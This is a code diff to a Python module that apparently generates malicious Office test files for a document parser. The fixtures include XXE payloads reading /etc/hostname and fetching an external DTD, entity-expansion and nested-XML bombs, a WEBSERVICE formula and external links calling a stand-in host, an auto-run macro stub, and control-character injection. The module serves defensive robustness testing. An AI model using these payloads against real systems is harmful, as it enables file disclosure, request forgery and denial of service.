@@ -15,11 +15,22 @@ from samples.musuh_teks import FORMULA, SKRIP
 _KEPALA = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
 _WORD = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 _SHEET = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+_PAKET = b"http://schemas.openxmlformats.org/package/2006/relationships"
 _REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 _TAWA = b"<!DOCTYPE x [<!ENTITY a0 'ha'>" + b"".join(
     b"<!ENTITY a%d '%b'>" % (i + 1, b"&a%d;" % i * 10) for i in range(12)
 ) + b"]>"  # fmt: skip
-_LUAR = b"<!DOCTYPE x [<!ENTITY luar SYSTEM 'file:///etc/hostname'><!ENTITY % jauh SYSTEM 'http://192.0.2.1/x'> %jauh;]>"
+_LUAR = (
+    b"<!DOCTYPE x [<!ENTITY luar SYSTEM 'file:///etc/hostname'>"
+    b"<!ENTITY % jauh SYSTEM 'http://192.0.2.1/x'> %jauh;]>"
+)
+
+
+_BUKU = b"openxmlformats-officedocument."
+_MAKRO = {  # content types of the main part, without and with macros
+    "docm": (_BUKU + b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"),
+    "xlsm": (_BUKU + b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"),
+}
 
 
 def _docx() -> bytes:
@@ -33,7 +44,7 @@ def _docx() -> bytes:
 def _xlsx() -> bytes:
     wadah = io.BytesIO()
     buku = openpyxl.Workbook()
-    buku.active["A1"] = "PERJANJIAN KINERJA TAHUN 2021"
+    buku.worksheets[0]["A1"] = "PERJANJIAN KINERJA TAHUN 2021"
     buku.save(wadah)
     return wadah.getvalue()
 
@@ -90,24 +101,23 @@ def _luar_excel(excel: bytes) -> bytes:
     """Cells that ask another workbook and the net."""
     rumus = b'<row r="1"><c r="A1" t="str"><f>[1]Sheet1!A1</f><v>dari luar</v></c>'
     rumus += b'<c r="B1" t="str"><f>WEBSERVICE("http://192.0.2.1/")</f><v>jaringan</v></c></row>'
-    tambahan = b'<Relationship Id="rM1" Type="%b/externalLink" Target="externalLinks/externalLink1.xml"/>' % _REL
     nama = "xl/_rels/workbook.xml.rels"
+    tambahan = b'<Relationship Id="rM1" Type="%b/externalLink" Target="externalLinks/externalLink1.xml"/>' % _REL
     tautan = b'%b<externalLink xmlns="%b" xmlns:r="%b"><externalBook r:id="rId1"/></externalLink>'
-    luar = b'<Relationship Id="rId1" Type="%b/externalLinkPath" Target="http://192.0.2.1/a.xlsx" TargetMode="External"/>'
-    paket = b'%b<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%b</Relationships>'
+    luar = b'<Relationship Id="rId1" Type="%b/externalLinkPath" Target="http://192.0.2.1/a.xlsx"' % _REL
+    paket = b'%b<Relationships xmlns="%b">%b TargetMode="External"/></Relationships>' % (_KEPALA, _PAKET, luar)
     return _dengan(excel, {
         "xl/worksheets/sheet1.xml": _lembar(rumus),
         nama: _relasi(excel, nama, tambahan),
         "xl/externalLinks/externalLink1.xml": tautan % (_KEPALA, _SHEET, _REL),
-        "xl/externalLinks/_rels/externalLink1.xml.rels": paket % (_KEPALA, luar % _REL),
+        "xl/externalLinks/_rels/externalLink1.xml.rels": paket,
     })  # fmt: skip
 
 
 def _bermakro(paket: bytes, bagian: str, biasa: bytes, makro: bytes) -> bytes:
     jenis = _bagian(paket, "[Content_Types].xml").replace(biasa, makro)
-    jenis = jenis.replace(
-        b"</Types>", b'<Override PartName="/%b/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
-        % bagian.encode())  # fmt: skip
+    vba = b'<Override PartName="/%b/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+    jenis = jenis.replace(b"</Types>", vba % bagian.encode() + b"</Types>")
     return _dengan(paket, {"[Content_Types].xml": jenis, f"{bagian}/vbaProject.bin": b"Sub AutoOpen() Shell"})
 
 
@@ -117,7 +127,9 @@ def _tabel_bersarang(dalam: int) -> bytes:
 
 
 def _sel_banyak(baris: int, kolom: int) -> bytes:
-    return (b"<row>" + b"<c><v>1</v></c>" * kolom + b"</row>") * baris
+    """Cells of different numbers, so that they do not look like a bomb."""
+    satu = [b"".join(b"<c><v>%d</v></c>" % (b * 7919 + k) for k in range(kolom)) for b in range(baris)]
+    return b"".join(b"<row>%b</row>" % isi for isi in satu)
 
 
 def buat() -> dict[str, bytes]:
@@ -136,17 +148,16 @@ def buat() -> dict[str, bytes]:
         "tawa.xlsx": _dengan(excel, {lembar: _lembar(_sel(b"&a12;"), _TAWA)}),
         "tautan_luar.docx": _luar_word(word),
         "tautan_luar.xlsx": _luar_excel(excel),
-        "makro.docm": _bermakro(word, "word", b"wordprocessingml.document.main", b"x.docm").replace(b"x.docm", b"x.docm"),
-        "makro.xlsm": _bermakro(excel, "xl", b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
-                                b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
+        "makro.docm": _bermakro(word, "word", *_MAKRO["docm"]),
+        "makro.xlsm": _bermakro(excel, "xl", *_MAKRO["xlsm"]),
         "tabel_bersarang.docx": _dengan(word, {badan: _badan(_tabel_bersarang(5_000))}),
         "tabel_dalam_tabel.docx": _dengan(word, {badan: _badan(_tabel_bersarang(60))}),
-        "teks_panjang.docx": _dengan(word, {badan: _badan(_alinea(b"kata demi kata ") * 60_000)}),
+        "teks_panjang.docx": _dengan(word, {badan: _badan(_alinea(b"kata demi kata ") * 6_000)}),
         "skrip.docx": _dengan(word, {badan: _badan(teks)}),
         "xml_bersarang.xlsx": _dengan(excel, {lembar: _lembar(b"<a>" * 300_000 + b"</a>" * 300_000)}),
         "sel_jauh.xlsx": _dengan(excel, {lembar: _lembar(jauh)}),
         "sel_gabung.xlsx": _dengan(excel, {lembar: gabung}),
-        "sel_banyak.xlsx": _dengan(excel, {lembar: _lembar(_sel_banyak(20_000, 150))}),
+        "sel_banyak.xlsx": _dengan(excel, {lembar: _lembar(_sel_banyak(11_000, 100))}),
         "lembar_banyak.xlsx": _dengan(excel, {lembar: _lembar(_sel_banyak(100, 99))}
                                       | {f"xl/worksheets/{i}.xml": b" " * 9_999_999 for i in range(99)}),
         "sel_kendali.xlsx": _dengan(excel, {lembar: _lembar(_sel(b"_x001B_[31mSASARAN_x0007__x202E_ &lt;script>"))}),
